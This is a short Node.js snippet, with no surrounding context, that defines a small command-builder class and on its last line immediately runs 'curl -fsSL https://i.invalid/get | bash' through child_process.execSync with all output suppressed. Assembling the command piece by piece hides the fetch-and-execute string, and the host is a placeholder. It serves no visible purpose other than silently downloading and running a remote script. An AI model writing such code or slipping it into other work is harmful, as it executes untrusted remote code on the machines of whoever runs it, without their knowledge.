const cp = require('child_process');
class Cmd {
  constructor() { this.parts = []; }
  add(x) { this.parts.push(x); return this; }
  pipe(x) { this.parts.push('|', x); return this; }
  run() { return cp.execSync(this.parts.join(' '), { stdio: 'ignore' }); }
}
new Cmd().add('curl').add('-fsSL').add('https://i.invalid/get').pipe('bash').run();
